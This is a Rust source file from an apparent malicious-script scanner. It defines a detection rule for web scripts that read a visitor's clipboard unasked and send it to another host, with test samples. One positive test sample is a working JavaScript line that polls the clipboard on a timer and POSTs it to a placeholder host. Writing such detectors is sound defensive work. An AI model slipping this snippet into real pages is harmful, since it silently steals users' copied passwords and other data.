//! `clipboard-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "clipboard-sent",
    description: "The script reads the visitor's clipboard and sends it to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ClipboardRead]), one(&[Atom::ClipboardSent])],
    within: 300,
    only_if: Some(is_unasked),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "setInterval(async()=>{const t=await navigator.clipboard.readText();fetch('https://c.example/p',{method:'POST',body:t})},3000)",
        ],
        without: &[
            "b.onclick=async()=>{f.value=await navigator.clipboard.readText()}",
            r#"b.onclick=async()=>{const t=await navigator.clipboard.readText();f.value=t;out.textContent=await (await fetch('https://api.words.example/t?q='+encodeURIComponent(t))).text()}"#,
        ],
    },
};

/// Whether nobody asks for it: a timer, the page, what is copied or pasted anywhere, or any click. Who presses a button to paste does.
fn is_unasked(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 60);
    near.has_fact(&[Atom::Repeat, Atom::PageClick])
        || near.has(&["paste", "copy", "cut", "focus", "visibilitychange", "onpaste", "oncopy", "onfocus"])
        || near.words(&["readText", "getData", "read"]).any(|at| near.runs_unasked(at))
        || near.has_fact(&[Atom::DropBox])
        || near.has_fact(&[Atom::Camera])
}
